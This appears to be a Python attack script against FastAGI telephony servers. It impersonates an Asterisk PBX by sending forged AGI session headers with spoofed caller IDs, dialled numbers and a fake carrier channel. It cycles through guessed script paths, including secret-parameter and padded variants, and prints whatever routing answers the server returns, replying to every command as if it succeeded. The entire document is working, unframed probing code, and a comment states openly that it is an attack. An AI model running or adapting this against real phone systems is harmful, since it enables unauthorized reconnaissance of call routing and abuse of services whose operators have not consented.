"""
Asks the FastAGI door whom calls would ring, as Asterisk does, but for what only Asterisk knows.

Arguments: host, port, seconds, then CALLER:DIALLED for each binding to guess at.
"""

import socket
import sys
import time
from contextlib import suppress

host, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
pairs = [each.split(":") for each in sys.argv[4:]]
scripts = ["route", "route/", "route?secret=", "route/secret", "route/" + 64 * "0", ""]
end, asked = time.monotonic() + seconds, 0
while time.monotonic() < end:
    caller, dialled = pairs[asked % len(pairs)]
    script = scripts[asked // len(pairs) % len(scripts)]
    told = [
        f"agi_network_script: {script}",
        "agi_network: yes",
        f"agi_request: agi://{host}/{script}",
        f"agi_uniqueid: pbx1-{int(time.time())}.{asked}",
        f"agi_callerid: {caller}",
        "agi_channel: PJSIP/carrier-in-00000001",
        f"agi_dnid: {dialled}",
        f"agi_extension: {dialled}",
        f"agi_arg_1: {dialled}",
        f"agi_arg_2: {caller}",
        "agi_arg_3: ",
        "agi_arg_4: ",
    ]
    with suppress(OSError), socket.create_connection((host, port), timeout=2) as line:
        line.sendall("\n".join([*told, "", ""]).encode())
        while answer := line.recv(4096):
            print(answer.decode("utf-8", "replace"), flush=True)
            line.sendall(b"200 result=1\n")
    asked += 1
    # It is not the processor that is under attack.
    time.sleep(0.001)
print("asked", asked)
